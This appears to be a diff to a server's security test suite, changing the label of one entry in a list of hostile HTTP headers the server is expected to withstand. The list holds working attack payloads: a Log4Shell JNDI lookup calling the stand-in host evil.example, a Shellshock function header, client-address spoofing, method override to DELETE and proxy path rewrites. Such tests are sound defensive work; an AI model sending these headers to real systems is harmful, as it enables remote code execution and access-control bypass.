@@ -55,7 +55,7 @@ ATTACKS: tuple[Attack[SiteServer], ...] = (
     _header("another path for the proxy", b"X-Original-URL: /outbox/\r\nX-Rewrite-URL: /outbox/\r\n", "200"),
     _header("another method", b"X-HTTP-Method-Override: DELETE\r\n", "200"),
     _header("another address of the client", b"X-Forwarded-For: 127.0.0.1\r\n", "200"),
-    _header("a look-up of log4j", b"User-Agent: ${jndi:ldap://evil.example/}\r\n", "200"),
+    _header("a look-up of log4j as the program's name", b"User-Agent: ${jndi:ldap://evil.example/}\r\n", "200"),
     _header("a shell's function", b"User-Agent: () { :; }; evil\r\n", "200"),
     _header("another site asks for a page", b"Origin: https://evil.example\r\n", "200"),
     _header("connection names the host", b"Connection: host\r\n", "200"),
